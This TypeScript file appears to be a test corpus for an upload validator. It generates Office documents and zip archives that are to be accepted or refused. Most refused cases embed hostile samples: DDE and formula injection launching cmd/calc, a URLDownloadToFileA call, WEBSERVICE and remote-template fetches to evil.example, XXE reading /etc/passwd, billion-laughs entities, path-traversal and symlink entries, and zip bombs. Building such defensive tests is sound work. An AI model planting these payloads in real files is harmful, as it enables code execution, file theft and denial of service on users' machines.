/** Office files of the corpus: documents, and what hides in their parts or in the zip they are. */
import { deflateRawSync } from 'node:zlib'
import { bytes, compound, EICAR, type HandedInCase, html, program, refused, taken, text, XML } from './case.ts'
import { type Office, officeOf, relation, relationsOf, wordsIn } from './make-office.ts'
import { pdfOf } from './make-pdf.ts'
import { pngOf } from './make-picture.ts'
import { packedBlanks, zipOf } from './make-zip.ts'

const chart = (target: string) => ({ name: 'ppt/charts/_rels/chart1.xml.rels', content: relationsOf(relation('package', target, false)) })
const sheetOf = (...cells: string[]) => ({
  name: 'xl/worksheets/sheet1.xml',
  content: `${XML}<worksheet><sheetData><row>${cells.map((cell) => `<c>${cell}</c>`).join('')}</row></sheetData></worksheet>`,
})
const embedded = (name: string, content: Buffer | string) => () => officeOf('docx', { parts: [{ name, content }] })
const related = (kind: Office, relations: string) => () => officeOf(kind, { relations })

export const OFFICES: readonly HandedInCase[] = [
  taken('census.xlsx', 'a workbook', () => officeOf('xlsx')),
  taken('minutes.docx', 'a document', () => officeOf('docx')),
  taken('board.pptx', 'a presentation', () => officeOf('pptx')),
  taken(
    'minutes.docx',
    'links to a web site, an address and a neighbor',
    related(
      'docx',
      `${relation('hyperlink', 'https://www.fdic.gov')}${relation('hyperlink', 'mailto:a@b.example').replace('x1', 'x2')}${relation('hyperlink', 'Budget%202026.xlsx').replace('x1', 'x3')}`,
    ),
  ),
  taken('minutes.docx', 'pictures and a drawing', () =>
    officeOf('docx', {
      parts: [
        { name: 'word/media/image1.png', content: pngOf() },
        { name: 'word/media/image2.svg', content: '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>' },
      ],
    }),
  ),
  taken('census.xlsx', 'settings of a printer', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/printerSettings/printerSettings1.bin', content: Buffer.alloc(200, 7) }] }),
  ),
  taken('board.pptx', 'a chart with its data', () =>
    officeOf('pptx', { parts: [chart('../embeddings/data.xlsx'), { name: 'ppt/embeddings/data.xlsx', content: officeOf('xlsx') }] }),
  ),
  taken('census.xlsx', 'folders among its entries', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/worksheets/', packed: Buffer.alloc(0) }] }),
  ),
  taken('census.xlsx', 'as another program writes it', async () => Buffer.from(await workbookOfLibrary())),
  refused('empty', 'census.xlsx', 'nothing', () => Buffer.alloc(0)),
  refused('content', 'census.xlsx', 'a Word document', () => officeOf('docx')),
  refused('content', 'minutes.docx', 'a PDF', () => pdfOf()),
  refused('content', 'census.xlsx', 'an old workbook', () => compound('Workbook')),
  refused('encrypted', 'census.xlsx', 'a workbook with a password', () => compound('EncryptedPackage')),
  refused('archive', 'census.xlsx', 'an archive', () => zipOf([{ name: 'a.csv', content: 'a,b' }])),
  refused('content', 'minutes.docx', 'an OpenDocument text', () =>
    zipOf([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' }]),
  ),
  refused('web-page', 'census.xlsx', 'a web page', text(html)),
  refused('macros', 'census.xlsx', 'a workbook of macros under another ending', () =>
    officeOf('xlsx', { type: 'application/vnd.ms-excel.sheet.macroEnabled.main' }),
  ),
  refused('macros', 'census.xlsx', 'a project of macros', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/vbaProject.bin', content: compound() }] }),
  ),
  refused('macros', 'minutes.docx', 'a project of macros under another name', () =>
    officeOf('docx', {
      parts: [{ name: 'word/theme.bin', content: 'x' }],
      types: '<Override PartName="/word/theme.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    }),
  ),
  refused('macros', 'census.xlsx', 'macros of Excel 4', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }] }),
  ),
  refused('macros', 'minutes.docx', 'a control', () =>
    officeOf('docx', { parts: [{ name: 'word/activeX/activeX1.xml', content: '<a/>' }] }),
  ),
  refused('macros', 'census.xlsx', 'a ribbon of its own', () =>
    officeOf('xlsx', { parts: [{ name: 'customUI/customUI14.xml', content: '<a/>' }] }),
  ),
  refused('embedded', 'minutes.docx', 'an OLE object', embedded('word/embeddings/oleObject1.bin', compound())),
  refused('embedded', 'minutes.docx', 'an OLE object under another name', embedded('word/media/image1.dat', compound())),
  refused('embedded', 'minutes.docx', 'a workbook that no chart shows', embedded('word/embeddings/data.xlsx', officeOf('xlsx'))),
  refused('macros', 'board.pptx', 'macros in the data of a chart', () =>
    officeOf('pptx', {
      parts: [
        chart('../embeddings/data.xlsx'),
        { name: 'ppt/embeddings/data.xlsx', content: officeOf('xlsx', { parts: [{ name: 'xl/vbaProject.bin', content: compound() }] }) },
      ],
    }),
  ),
  refused('embedded', 'minutes.docx', 'a program', embedded('word/media/image1.png', program)),
  refused('embedded', 'minutes.docx', 'a zip within', embedded('customXml/item1.dat', zipOf([{ name: 'a', content: 'a' }]))),
  refused(
    'embedded',
    'minutes.docx',
    'the test file in a zip within',
    embedded('word/eicar.zip', zipOf([{ name: 'eicar.com', content: EICAR }])),
  ),
  refused('embedded', 'minutes.docx', 'a web page as a part', () =>
    officeOf('docx', { relations: relation('aFChunk', 'chunk.htm', false) }),
  ),
  refused(
    'web-page',
    'minutes.docx',
    'a drawing with a script',
    embedded('word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
  ),
  refused('external', 'census.xlsx', 'a link to another workbook', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<a/>' }] }),
  ),
  refused('external', 'census.xlsx', 'a connection to a database', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/connections.xml', content: '<a/>' }] }),
  ),
  refused(
    'external',
    'minutes.docx',
    'a template from elsewhere',
    related('docx', relation('attachedTemplate', 'https://evil.example/t.dotm')),
  ),
  refused('external', 'minutes.docx', 'a picture from elsewhere', related('docx', relation('image', 'https://evil.example/pixel.png'))),
  refused('external', 'minutes.docx', 'a link that runs', related('docx', relation('hyperlink', '&#106;avascript:alert(1)'))),
  refused(
    'external',
    'minutes.docx',
    'a link to another machine’s share',
    related('docx', relation('hyperlink', '\\\\evil.example\\share\\x')),
  ),
  refused('external', 'minutes.docx', 'a link to a file', related('docx', relation('hyperlink', 'file:///c:/windows/x.exe'))),
  refused('field-program', 'minutes.docx', 'a field that starts a program', () =>
    officeOf('docx', { parts: [wordsIn('<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>')] }),
  ),
  taken('census.xlsx', 'formulas with bars that are letters', () =>
    officeOf('xlsx', {
      parts: [
        sheetOf(
          `<f>IF(A1="a|b",SEARCH("RTD(",A2),'Cash|Flow'!A1)</f>`,
          '<f>SUM(Policies[[#Totals],[Value | Cents]])</f>',
          '<is><t>=cmd|’ /C calc’!A0 and CALL(me)</t></is>',
          '<f>_xlfn.CONCAT(A1,&quot;&amp;#124;&quot;)</f>',
        ),
        { name: 'xl/sharedStrings.xml', content: `${XML}<sst><si><t>=cmd|' /C calc'!A0</t></si></sst>` },
      ],
    }),
  ),
  ...[
    ['a cell that starts a program', `<f>cmd|' /C calc'!A0</f>`],
    ['the same in other letters', `<x:f t="normal">'cmd'&#x7C;'/C calc'!A0</x:f>`],
    ['a validation that starts a program', `<formula1>MSEXCEL|'\\..\\calc.exe'!A1</formula1>`],
    ['a name that starts a program', '<definedName name="x">cmd|x!A1</definedName>'],
    ['a server of live data', '<f>RTD("evil.server",,"x")</f>'],
    ['a call of a library', '<f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,A1,A2,0,0)</f>'],
    ['a formula behind a mile of blanks', `${' '.repeat(400_000)}<f>cmd${' '.repeat(4_000)}|x!A0</f>`],
    ['a link of dynamic data exchange', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'],
  ].map(([what, cell]) => refused('field-program', 'census.xlsx', what ?? '', () => officeOf('xlsx', { parts: [sheetOf(cell ?? '')] }))),
  refused('field-program', 'census.xlsx', 'the same in a part that does not say what it is', () =>
    officeOf('xlsx', { parts: [{ ...sheetOf(`<f>cmd|' /C calc'!A0</f>`), name: 'xl/data.bin' }] }),
  ),
  refused('xml-entities', 'census.xlsx', 'a formula in disguise', () => officeOf('xlsx', { parts: [sheetOf('<f>cm<!-- -->d|x!A0</f>')] })),
  refused('xml-entities', 'census.xlsx', 'a sheet in UTF-16 under another name', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/data.bin', content: Buffer.from('<f>cmd|x!A0</f>', 'utf16le') }] }),
  ),
  refused('external', 'census.xlsx', 'a cell that fetches', () =>
    officeOf('xlsx', { parts: [sheetOf('<f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f>')] }),
  ),
  refused('external', 'census.xlsx', 'a link to another workbook under another name', () =>
    officeOf('xlsx', {
      types:
        '<Override PartName="/xl/theme9.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    }),
  ),
  refused('xml-entities', 'minutes.docx', 'entities from elsewhere (XXE)', () =>
    officeOf('docx', {
      parts: [{ name: 'word/document.xml', content: `${XML}<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>` }],
    }),
  ),
  refused('xml-entities', 'census.xlsx', 'a billion laughs', () =>
    officeOf('xlsx', {
      parts: [
        {
          name: 'xl/sharedStrings.xml',
          content: `${XML}<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><sst>&b;</sst>`,
        },
      ],
    }),
  ),
  refused('xml-entities', 'minutes.docx', 'entities in a list of relationships', () =>
    officeOf('docx', {
      parts: [{ name: 'word/_rels/document.xml.rels', content: `${XML}<!DOCTYPE a [<!ENTITY x "y">]><Relationships/>` }],
    }),
  ),
  refused('xml-entities', 'minutes.docx', 'the same in UTF-16', () =>
    officeOf('docx', {
      parts: [{ name: 'word/document.xml', content: bytes('\xff\xfe', Buffer.from(`${XML}<!DOCTYPE a><a/>`, 'utf16le')) }],
    }),
  ),
  refused('xml-entities', 'minutes.docx', 'the same in UTF-7', () =>
    officeOf('docx', { parts: [{ name: 'word/document.xml', content: '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4' }] }),
  ),
  refused('damaged', 'minutes.docx', 'relationships that are no XML', () =>
    officeOf('docx', { parts: [{ name: 'word/_rels/document.xml.rels', content: '<Relationships><' }] }),
  ),
  refused('damaged', 'census.xlsx', 'half of a workbook', () => officeOf('xlsx').subarray(0, 700)),
  refused('damaged', 'census.xlsx', 'a workbook with a byte changed', () => changed(officeOf('xlsx'), 60)),
  refused('scanner', 'minutes.docx', 'the test file as a part', () =>
    officeOf('docx', {
      parts: [{ name: 'customXml/item1.txt', content: EICAR, packed: deflateRawSync(Buffer.from(EICAR), { level: 0 }) }],
    }),
  ),
]

export const ARCHIVES: readonly HandedInCase[] = [
  refused('archive-names', 'census.xlsx', 'a way out of its folder', () =>
    officeOf('xlsx', { parts: [{ name: '../../evil.xml', content: '<a/>' }] }),
  ),
  refused('archive-names', 'census.xlsx', 'a place on the disk', () =>
    officeOf('xlsx', { parts: [{ name: '/etc/evil.xml', content: '<a/>' }] }),
  ),
  refused('archive-names', 'census.xlsx', 'a drive', () => officeOf('xlsx', { parts: [{ name: 'C:/evil.xml', content: '<a/>' }] })),
  refused('archive-names', 'census.xlsx', 'a backslash', () =>
    officeOf('xlsx', { parts: [{ name: 'xl\\..\\evil.xml', content: '<a/>' }] }),
  ),
  refused('archive-names', 'census.xlsx', 'a symbolic link', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/link', content: '/etc/passwd', mode: 0o120777 }] }),
  ),
  refused('archive-names', 'census.xlsx', 'the same entry twice', () =>
    officeOf('xlsx', {
      parts: [
        { name: 'xl/a.xml', content: '<a/>' },
        { name: 'XL/A.xml', content: '<b/>' },
      ],
    }),
  ),
  refused('encrypted', 'census.xlsx', 'an entry with a password', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/a.xml', content: '<a/>', encrypted: true }] }),
  ),
  refused('polyglot', 'census.xlsx', 'a zip within its gaps', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/a.xml', content: '<a/>', gap: Buffer.from('hidden bytes of any kind') }] }),
  ),
  refused('polyglot', 'census.xlsx', 'other names within than in its list', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/a.xml', content: '<a/>', localName: 'xl/b.exe' }] }),
  ),
  refused('content', 'census.xlsx', 'a page before it', () => officeOf('xlsx', { before: Buffer.from('x<html>') })),
  refused('damaged', 'census.xlsx', 'a page behind it', () => officeOf('xlsx', { after: Buffer.from('<script>alert(1)</script>') })),
  refused('expands', 'minutes.docx', 'ten gigabytes by its list', () =>
    officeOf('docx', { parts: [{ name: 'word/a.xml', packed: packedBlanks(8), size: 4_000_000_000 }] }),
  ),
  refused('expands', 'minutes.docx', 'three hundred megabytes of blanks', () =>
    officeOf('docx', { parts: [{ name: 'word/a.xml', packed: packedBlanks(300), size: 300 << 20 }] }),
  ),
  refused('damaged', 'minutes.docx', 'more than its list says', () =>
    officeOf('docx', { parts: [{ name: 'word/a.xml', packed: packedBlanks(300), size: 1000 }] }),
  ),
  refused('expands', 'minutes.docx', 'many large parts', () =>
    officeOf('docx', {
      parts: Array.from({ length: 90 }, (_, index) => ({ name: `word/a${index}.xml`, packed: packedBlanks(1), size: 3 << 20 })),
    }),
  ),
  refused('expands', 'minutes.docx', 'entries over each other', () =>
    officeOf('docx', {
      parts: [
        { name: 'word/a.xml', packed: packedBlanks(3), size: 3 << 20 },
        ...Array.from({ length: 20 }, (_, index) => ({
          name: `word/b${index}.xml`,
          packed: packedBlanks(3),
          size: 3 << 20,
          overlaps: true,
        })),
      ],
    }),
  ),
  refused('expands', 'census.xlsx', 'six thousand entries', () =>
    officeOf('xlsx', { parts: Array.from({ length: 6_000 }, (_, index) => ({ name: `xl/a${index}.xml`, packed: Buffer.from([3, 0]) })) }),
  ),
  refused('embedded', 'census.xlsx', 'itself, within itself', () =>
    officeOf('xlsx', { parts: [{ name: 'xl/again.xlsx', content: officeOf('xlsx') }] }),
  ),
]

function changed(content: Buffer, at: number): Buffer {
  content[at] = (content[at] ?? 0) ^ 0xff
  return content
}

async function workbookOfLibrary(): Promise<ArrayBuffer> {
  const { default: exceljs } = await import('exceljs')
  const workbook = new exceljs.Workbook()
  const sheet = workbook.addWorksheet('Census')
  sheet.addRow(['Name', 'Link'])
  sheet.addRow(['Ada', { text: 'FDIC', hyperlink: 'https://www.fdic.gov' }])
  return workbook.xlsx.writeBuffer()
}
